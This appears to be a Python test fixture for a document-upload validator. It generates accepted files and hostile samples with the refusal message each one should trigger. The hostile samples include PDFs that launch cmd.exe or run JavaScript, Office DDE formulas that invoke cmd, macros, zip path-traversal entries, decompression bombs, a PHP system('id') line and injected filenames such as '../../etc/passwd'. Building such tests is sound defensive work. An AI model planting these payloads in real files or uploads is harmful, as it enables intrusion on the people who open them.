"""Hostile files by seed (FIABILITE O15): each with the verdict that every entrance must give."""

import random
from dataclasses import dataclass, replace
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.epreuves import documents as d
from tests.epreuves.documents import pdf

NOMS = [
    "a.pdf",
    "../../etc/passwd",
    "C:\\Windows\\x.pdf",
    "nom\u202egnp.pdf",
    "a\r\nSet-Cookie: x.pdf",
    "é" * 150 + ".pdf",
    "😀.pdf",
    "CON",
    "double.pdf.exe",
    ".htaccess",
    "   ",
    "a;b|c&d.pdf",
    "<script>.pdf",
    "a" * 300,
    "x.PDF.js",
    "#?%2e",
]
TYPES = [
    "application/pdf",
    "text/html",
    "image/svg+xml",
    "application/x-php",
    "",
    'x/y; charset="z',
]

BASE = "application/vnd.openxmlformats-officedocument."
MS = "application/vnd.ms-"
SHEET = f"{BASE}spreadsheetml.sheet"
XLM = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'


@dataclass(frozen=True)
class Hostile:
    """A file as it would be sent, and what the refusal must say."""

    genre: str
    contenu: bytes
    accepte: bool
    phrase: str = ""


@cache
def honnetes() -> dict[str, bytes]:
    """What people send: every one is accepted."""
    bon, photo = d.pdf(), d.jpeg_de_telephone()
    return {
        "pdf": bon,
        "pdf puis html": bon + b"\n<script>alert(1)</script>\n%%EOF",
        "pdf puis zip": bon + d.archive({"a": b"x"}) + b"%%EOF",
        "pdf à BOM": b"\xef\xbb\xbf" + bon,
        "pdf à ligne blanche": b"\r\n\n" + bon,
        "pdf à ligne blanche et BOM": b"\n\xef\xbb\xbf\r\n" + bon,
        "pdf d'imprimante": b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + bon,
        "pdf à en-tête": b"Content-Type: application/pdf\r\n\r\n" + bon,
        "pdf suivi de blancs": bon + b"\0" * 5000,
        "pdf compact": d.pdf_qui(
            lambda document: None, object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "pdf linéarisé": d.pdf_qui(lambda document: None, linearize=True),
        "pdf protégé en écriture": d.pdf_chiffre(ouvrir=""),
        "pdf à lien": d.au_clic(S=Name.URI, URI="https://www.exemple.fr/"),
        "pdf à sommaire": d.a_l_ouverture(S=Name.GoTo, D=Array([0, Name.Fit])),
        "pdf d'un scan": d.pdf_d_un_scan(),
        "pdf à photo": d.pdf_a_photo(),
        "pdf à facture": d.pdf_joint("factur-x.xml", b"<Invoice><ID>1</ID></Invoice>"),
        "récépissé du portail": d.pdf_joint("CV-2027-0001-version-1.json", b'{"a": 1}'),
        "png": d.png(),
        "png en couleurs": d.image("PNG"),
        "jpeg": d.jpeg(),
        "jpeg progressif": d.jpeg(progressive=True),
        "jpeg gris": d.jpeg(d.bruit().convert("L")),
        "jpeg cmjn": d.jpeg(d.bruit().convert("CMYK")),
        "jpeg de téléphone": photo,
        "jpeg suivi d'autre chose": photo + b"SEFT" * 40,
        "docx": d.docx(),
        "docx de Word en ligne": d.docx_de_word_en_ligne(),
        "docx à lien": d.relie(d.docx(), "hyperlink", "mailto:a@exemple.fr"),
        "docx à champs": d.dans_word(
            d.champ(" PAGE ") + d.champ("TO", 'C \\o "1-3"') + d.champ(" = SUM(ABOVE) ")
        ),
        "docx à tableau incorporé": d.relie(
            d.declare(d.docx(), "word/embeddings/t.xlsx", SHEET, d.xlsx()),
            "package",
            "embeddings/t.xlsx",
            dehors=False,
        ),
        "pdf de WeasyPrint": d.pdf_de_weasyprint(),
        "pdf de pypdf": d.pdf_de_pypdf(),
        "xlsx": d.xlsx(),
        "odt": d.odt(),
        "ods": d.ods(),
    }


@cache
def refusees() -> dict[str, tuple[bytes, str]]:
    """{kind: (bytes, words of the refusal)}: what no page keeps, and what each sentence says."""
    bon, photo = d.pdf(), d.jpeg_de_telephone()
    return {
        **_images_et_pdf(bon, photo),
        **_office(d.docx(), d.xlsx()),
        **_opendocument(),
        **_autres(bon),
    }


def _images_et_pdf(bon: bytes, photo: bytes) -> dict[str, tuple[bytes, str]]:
    lance = {"S": Name.Launch, "F": "cmd.exe"}
    script = {"S": Name.JavaScript, "JS": "app.alert(1)"}
    imprimer = "imprimez-le en PDF"
    return {
        "jpeg de 76 octets": (b"\xff\xd8\xff\xe0" + b"\0" * 70 + b"\xff\xd9", "incomplète"),
        "jpeg et php": (b"\xff\xd8\xff\xe0<?php ?>\xff\xd9", "incomplète"),
        "jpeg coupé après sa miniature": (photo[: len(photo) // 2], "incomplète"),
        "jpeg coupé puis fini": (photo[: len(photo) // 2] + b"\xff\xd9", "incomplète"),
        "png coupé": (d.png()[:40], "incomplète"),
        "png abîmé": (_abime(d.image("PNG")), "incomplète"),
        "png géant": (d.png(50_000, 50_000), "trop grande"),
        "pdf coupé": (bon[: len(bon) // 2], "incomplet"),
        "html derrière pdf": (b"%PDF-1.7\n<html><script>1</script></html>\n%%EOF", "abîmé"),
        "pdf sans page": (d.pdf_qui(lambda document: document.pages.__delitem__(0)), "aucune page"),
        "pdf à mot de passe": (d.pdf_chiffre(), "demande un mot de passe"),
        "pdf qui lance": (d.a_l_ouverture(**lance), imprimer),
        "pdf qui lance au clic": (d.au_clic(**lance), imprimer),
        "pdf qui lance ensuite": (
            d.au_clic(S=Name.GoTo, D=Array([0, Name.Fit]), Next=d.acte(**lance)),
            imprimer,
        ),
        "pdf à script": (d.a_l_ouverture(**script), imprimer),
        "pdf à script au clic": (d.au_clic(**script), imprimer),
        "pdf à script nommé": (
            d.pdf_qui(
                lambda document: setattr(
                    document.Root,
                    "Names",
                    Dictionary(JavaScript=Dictionary(Names=Array(["a", d.acte(**script)]))),
                )
            ),
            imprimer,
        ),
        "pdf à script de page": (
            d.pdf_qui(
                lambda document: setattr(
                    document.pages[0].obj, "AA", Dictionary(O=d.acte(**script))
                )
            ),
            imprimer,
        ),
        "pdf compact à script": (
            d.pdf_qui(
                lambda document: setattr(
                    document.Root, "OpenAction", document.make_indirect(d.acte(**script))
                ),
                object_stream_mode=pikepdf.ObjectStreamMode.generate,
            ),
            imprimer,
        ),
        "pdf qui ouvre une page": (
            d.a_l_ouverture(S=Name.URI, URI="https://mechant.example/"),
            imprimer,
        ),
        "pdf à adresse de script": (d.au_clic(S=Name.URI, URI="javascript:1"), imprimer),
        "pdf à partage distant": (d.au_clic(S=Name.URI, URI="\\\\serveur\\x"), imprimer),
        "pdf qui envoie": (d.au_clic(S=Name.SubmitForm, F="https://x.example"), imprimer),
        "pdf qui importe": (d.au_clic(S=Name.ImportData, F="x.fdf"), imprimer),
        "pdf qui va ailleurs": (d.a_l_ouverture(S=Name.GoToR, F="//serveur/x.pdf"), imprimer),
        "pdf à script sous un autre nom": (
            d.a_l_ouverture(**script).replace(b"/JavaScript", b"/J#61vaScript"),
            imprimer,
        ),
        "pdf à script de champ": (
            d.annotation("/FreeText", AA=Dictionary(K=d.acte(**script))),
            imprimer,
        ),
        "pdf qui lance d'un signet": (d.pdf_a_signet(**lance), imprimer),
        "pdf qui va dedans": (d.au_clic(S=Name.GoToE, F="x.pdf"), imprimer),
        "pdf à vidéo": (d.annotation("/RichMedia"), imprimer),
        "pdf à écran": (d.annotation("/Screen"), imprimer),
        "pdf à 3D": (d.annotation("/3D"), imprimer),
        "pdf à son": (d.annotation("/Sound"), imprimer),
        "pdf xfa": (d.pdf_xfa(), imprimer),
        "pdf à exe": (d.pdf_joint("facture.exe", b"MZ" + b"\0" * 99), "contient un autre fichier"),
        "pdf à html": (d.pdf_joint("a.xml", b"<html/>"), "contient un autre fichier"),
        "pdf à pièce": (
            d.annotation("/FileAttachment", FS=Dictionary(EF=Dictionary(F=1))),
            "contient un autre fichier",
        ),
        "pdf porte-documents": (
            d.pdf_qui(lambda document: setattr(document.Root, "Collection", Dictionary())),
            "contient un autre fichier",
        ),
        "pdf à flux extérieur": (d.pdf_a_flux_exterieur(), "extérieur"),
        "pdf bombe": (d.pdf_bombe(), ""),
    }


def _abime(contenu: bytes) -> bytes:
    """Nine bytes changed in the middle."""
    return contenu[:90] + bytes(255 - octet for octet in contenu[90:99]) + contenu[99:]


def _office(docx: bytes, xlsx: bytes) -> dict[str, tuple[bytes, str]]:
    vide = b'<x xmlns="x"/>'
    principal = "document.main+xml"
    return {
        "docx à macro": (
            d.declare(docx, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x"),
            "macros",
        ),
        "docx à macro renommée": (
            d.relie(docx, "vbaProject", "media/i.png", dehors=False),
            "macros",
        ),
        "docm": (
            d.type_principal(
                docx,
                f"{BASE}wordprocessingml.{principal}",
                f"{MS}word.document.macroEnabled.main+xml",
            ),
            "macros",
        ),
        "dotx": (d.type_principal(docx, principal, "template.main+xml"), "modèle"),
        "pptx": (
            d.type_principal(
                docx, f"wordprocessingml.{principal}", "presentationml.presentation.main+xml"
            ),
            "présentation",
        ),
        "xlsx à XLM": (
            d.declare(xlsx, "xl/macrosheets/s.xml", f"{MS}excel.macrosheet+xml", vide),
            "macros",
        ),
        "xlsx à XLM internationale": (
            d.declare(xlsx, "xl/macrosheets/s.xml", f"{MS}excel.intlmacrosheet+xml", vide),
            "macros",
        ),
        "xlsx à feuille de macro cachée": (
            d.declare(xlsx, "xl/worksheets/x.xml", f"{BASE}spreadsheetml.worksheet+xml", XLM),
            "macros",
        ),
        "xlsx à DDE": (d.formule("=cmd|'/c calc'!A0"), "DDE"),
        "xlsx qui appelle le web": (d.formule('=WEBSERVICE("https://x.example")'), "champ"),
        "xlsx lié": (
            d.declare(
                xlsx, "xl/externalLinks/e.xml", f"{BASE}spreadsheetml.externalLink+xml", vide
            ),
            "liaisons",
        ),
        "xlsx à connexion": (
            d.declare(xlsx, "xl/connections.xml", f"{BASE}spreadsheetml.connections+xml", vide),
            "liaisons",
        ),
        "docx à modèle": (
            d.relie(
                docx,
                "attachedTemplate",
                "https://x.example/m.dotm",
                partie="word/_rels/settings.xml.rels",
            ),
            "extérieur",
        ),
        "docx à OLE distant": (d.relie(docx, "oleObject", "https://x.example/a.doc"), ""),
        "docx à OLE": (
            d.declare(docx, "word/embeddings/o.bin", f"{BASE}oleObject", b"x"),
            "objet incorporé",
        ),
        "docx à cadre": (d.relie(docx, "frame", "https://x.example/"), "extérieur"),
        "docx à image liée": (d.relie(docx, "image", "https://x.example/i.png"), "extérieur"),
        "docx à image d'un partage": (
            d.relie(docx, "image", "//serveur/i.png", dehors=False),
            "extérieur",
        ),
        "docx à sous-document": (d.relie(docx, "subDocument", "file:///x.docx"), "extérieur"),
        "docx à HTML": (d.relie(docx, "aFChunk", "x.html", dehors=False), "objet"),
        "docx à lien de script": (d.relie(docx, "hyperlink", "javascript:1"), "extérieur"),
        "docx à contrôle": (
            d.declare(docx, "word/activeX/a.xml", f"{MS}office.activeX+xml", vide),
            "élément actif",
        ),
        "docx à vidéo": (d.relie(docx, "video", "https://x.example/v"), ""),
        "docx à image VML": (
            d.dans_word('<v:imagedata xmlns:v="v" src="https://x.example/i"/>'),
            "extérieur",
        ),
        "docx à DDE": (d.dans_word(d.champ("DDEAUTO c:\\\\cmd.exe")), "DDE"),
        "docx à DDE en morceaux": (d.dans_word(d.champ(" D", "DE", "AUTO x")), "DDE"),
        "docx à DDE simple": (d.dans_word('<w:fldSimple w:instr=" DDE x y"/>'), "DDE"),
        "docx à DDE cachée": (d.dans_word(d.champ_dans_un_champ("QUOTE 68 68 69")), "DDE"),
        "docx à image incluse": (d.dans_word(d.champ('INCLUDEPICTURE "https://x"')), "champ"),
        "docx qui inclut": (d.dans_word(d.champ("INCLUDETEXT x")), "champ"),
        "docx à base": (d.dans_word(d.champ("DATABASE x")), "champ"),
        "docx à entités": (
            d.avec(docx, word__styles_p_xml=b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
            "abîmé",
        ),
        "docx à table hostile": (
            d.relie(
                d.declare(docx, "word/embeddings/t.xlsx", SHEET, d.formule("=cmd|'/c calc'!A0")),
                "package",
                "embeddings/t.xlsx",
                dehors=False,
            ),
            "DDE",
        ),
        "docx sans document": (d.archive({"[Content_Types].xml": b"<Types/>"}), "abîmé"),
        "docx coupé": (docx[: len(docx) // 2], "abîmé"),
        "docx à mot de passe": (d.ole("EncryptedPackage"), "mot de passe"),
        "docx qui ment": (d.menteur(docx, "word/styles.xml", 100), "anormalement gros"),
        "docx gonflé": (d.menteur(docx, "word/styles.xml", 300_000_000), "anormalement gros"),
        "docx bombe": (
            d.avec(docx, word__media__z_p_png=b"\0" * 201_000_000),
            "anormalement gros",
        ),
        "docx qui sort": (d.archive({**d.entrees_de(docx), "../../x": b"x"}), "abîmé"),
        "docx absolu": (d.archive({**d.entrees_de(docx), "/etc/x": b"x"}), "abîmé"),
        "docx à mille noms": (
            d.archive({**d.entrees_de(docx), **{f"a/{n}": b"" for n in range(5001)}}),
            "anormalement gros",
        ),
    }


def _opendocument() -> dict[str, tuple[bytes, str]]:
    return {
        "odt à macro": (d.odt(Basic__Standard__M_p_xml=b"<x/>"), "macros"),
        "odt à script": (d.odt(Scripts__python__m_p_py=b"x"), "macros"),
        "odt à événement": (
            d.odt('<script:event-listener xlink:href="vnd.sun.star.script:m"/>'),
            "macros",
        ),
        "odt à lien de script": (
            d.odt('<text:a xlink:href="vnd.sun.star.script:m">x</text:a>'),
            "macros",
        ),
        "odt à image distante": (
            d.odt('<draw:image xlink:href="https://x.example/i.png"/>'),
            "extérieur",
        ),
        "odt à image d'un partage": (
            d.odt('<draw:image xlink:href="//serveur/i.png"/>'),
            "extérieur",
        ),
        "odt à cadre": (d.odt('<draw:floating-frame xlink:href="x"/>'), "extérieur"),
        "odt à section liée": (
            d.odt('<text:section-source xlink:href="file:///etc/passwd"/>'),
            "extérieur",
        ),
        "odt à objet distant": (
            d.odt('<draw:object xlink:href="https://x.example/o.odt"/>'),
            "extérieur",
        ),
        "odt à OLE": (d.odt('<draw:object-ole xlink:href="./Object 1"/>'), "objet incorporé"),
        "odt à extension": (d.odt('<draw:plugin xlink:href="x"/>'), "élément actif"),
        "odt à DDE": (d.odt('<office:dde-source office:dde-application="x"/>'), "DDE"),
        "odt à exe": (d.odt(x_p_exe=b"MZ"), "objet incorporé"),
        "odt à mot de passe": (
            d.odt(
                **{
                    "META-INF__manifest_p_xml": b'<m xmlns:m="m"><m:encryption-data/></m>',
                }
            ),
            "mot de passe",
        ),
        "ods à DDE": (d.ods("of:=DDE(&quot;soffice&quot;;1;2)"), "DDE"),
        "ods qui appelle le web": (d.ods("of:=WEBSERVICE(&quot;https://x&quot;)"), "champ"),
        "ods lié": (d.ods("of:='file:///x.ods'#$F.A1"), "extérieur"),
        "odt sans manifeste": (
            d.archive({k: v for k, v in d.entrees_de(d.odt()).items() if "manifest.xml" not in k}),
            "abîmé",
        ),
        "odt d’un autre contenu": (d.odt(content_p_xml=b"<x/>"), "abîmé"),
        "odt sans contenu": (d.odt(content_p_xml=b""), "abîmé"),
        "odg": (_odf_de_genre("graphics"), "ODG"),
        "odp": (_odf_de_genre("presentation"), "ODP"),
        "ott": (_odf_de_genre("text-template"), "modèle"),
        "odb": (_odf_de_genre("base"), "ODB"),
    }


def _odf_de_genre(genre: str) -> bytes:
    return d.archive({"mimetype": f"application/vnd.oasis.opendocument.{genre}".encode()})


def _autres(bon: bytes) -> dict[str, tuple[bytes, str]]:
    """What people send without knowing: each with how to convert it (T16)."""
    return {
        "vide": (b"", "vide"),
        "html puis pdf": (b"<html>" + bon, "page web"),
        "exe puis pdf": (b"MZ\0" + bon, ""),
        "texte": (b"bonjour", "traitement de texte"),
        "csv": ("Nom;Montant\r\nÉté;12".encode("cp1252"), "tableur"),
        "rtf": (b"{\\rtf1}", "traitement de texte"),
        "html": (b"<!DOCTYPE html><html></html>", "imprimez-la en PDF"),
        "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "JPEG"),
        "gif et html": (b"GIF89a<script>", "JPEG"),
        "webp": (d.image("WEBP"), "JPEG"),
        "tiff": (d.image("TIFF"), "JPEG"),
        "bmp": (d.image("BMP"), "JPEG"),
        "heic": (d.ftyp(b"heic"), "Le plus compatible"),
        "heif": (d.ftyp(b"mif1"), "Le plus compatible"),
        "avif": (d.ftyp(b"avif"), "JPEG"),
        "mp4": (d.ftyp(b"isom"), "vidéo"),
        "mov": (d.ftyp(b"qt  "), "vidéo"),
        "m4a": (d.ftyp(b"M4A "), "sonore"),
        "mp3": (b"ID3" + b"\0" * 99, "sonore"),
        "doc": (d.ole("WordDocument"), "DOCX"),
        "xls": (d.ole("Workbook"), "XLSX"),
        "ppt": (d.ole("PowerPoint Document"), "enregistrez-la"),
        "msg": (d.ole("__substg1.0_001"), "courriel"),
        "pages": (d.archive({"Index/Document.iwa": b"x"}), "Exporter vers"),
        "fodt": (b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:x"/>', "FODT"),
        "epub": (
            d.archive({"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<c/>"}),
            "EPUB",
        ),
        "zip": (d.archive({"a.txt": b"x"}), "joignez chaque fichier"),
        "zip dans zip": (
            d.archive({"a.zip": d.archive({"b.zip": b"x"})}),
            "joignez chaque fichier",
        ),
        "rar": (b"Rar!\x1a\x07", "joignez chaque fichier"),
        "7z": (b"7z\xbc\xaf\x27\x1c", "joignez chaque fichier"),
        "tar.gz": (b"\x1f\x8b\x08", "joignez chaque fichier"),
        "eml": (b"From: a@exemple.fr\r\nSubject: x\r\n", "courriel"),
        "raccourci": (b"L\0\0\0\x01\x14\x02\0\0", "raccourci"),
        "postscript": (b"%!PS-Adobe-3.0", "PostScript"),
        "php": (b"<?php system('id');", "programme"),
        "exe": (b"MZ" + b"\0" * 200, "programme"),
        "nul": (b"\0" * 500, "Types acceptés"),
        "heic en rafale": (d.ftyp(b"hevx"), "Le plus compatible"),
        "photo brute": (d.ftyp(b"crx "), "JPEG"),
        "mov sans marque": (b"\0\0\0\x08wide" + b"\0" * 99, "vidéo"),
        "mp3 sans étiquette": (b"\xff\xf3\x90" + b"\0" * 99, "sonore"),
        "emf": (b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 50, "JPEG"),
        "iso": (b"\0" * 32769 + b"CD001", "joignez chaque fichier"),
        "zst": (b"\x28\xb5\x2f\xfd" + b"\0" * 50, "joignez chaque fichier"),
        "asice": (d.archive({"META-INF/signatures0.xml": b"<a/>"}), "document signé"),
        "winmail": (b"\x78\x9f\x3e\x22" + b"\0" * 50, "courriel"),
        "onenote": (bytes.fromhex("e4525c7b8cd8a74d") + b"\0" * 50, "enregistrez-les"),
        "access": (b"\0\1\0\0Standard ACE DB" + b"\0" * 50, "base de données"),
        "indesign": (bytes.fromhex("0606edf5d81d46e5") + b"\0" * 50, "logiciel"),
        ".ds_store": (b"\0\0\0\1Bud1" + b"\0" * 50, "range pour lui-même"),
    }


def familles() -> dict[str, Hostile]:
    """{kind: file}: what is accepted is only ever given back as an attachment, in a sandbox."""
    bons = [Hostile(genre, contenu, True) for genre, contenu in honnetes().items()]
    mauvais = [
        Hostile(genre, contenu, False, phrase) for genre, (contenu, phrase) in refusees().items()
    ]
    return {hostile.genre: hostile for hostile in [*bons, *mauvais]}


def tirer(combien: int, graine: int) -> list[tuple[Hostile, str, str]]:
    """[(file, name, announced type)], each family at least once, with names and types drawn by
    seed.
    """
    hasard, tout = (
        random.Random(graine),
        list(familles().values()),
    )
    choisis = [*tout, *(hasard.choice(tout) for _ in range(max(0, combien - len(tout))))]
    return [
        (_varier(hostile, hasard), hasard.choice(NOMS), hasard.choice(TYPES)) for hostile in choisis
    ]


def _varier(hostile: Hostile, hasard: random.Random) -> Hostile:
    """The same kind, other bytes: a comment after a PDF, so that no two are alike."""
    if hostile.genre == "pdf":
        return replace(hostile, contenu=pdf(f"\n% {hasard.getrandbits(60)}\n%%EOF".encode()))
    return hostile
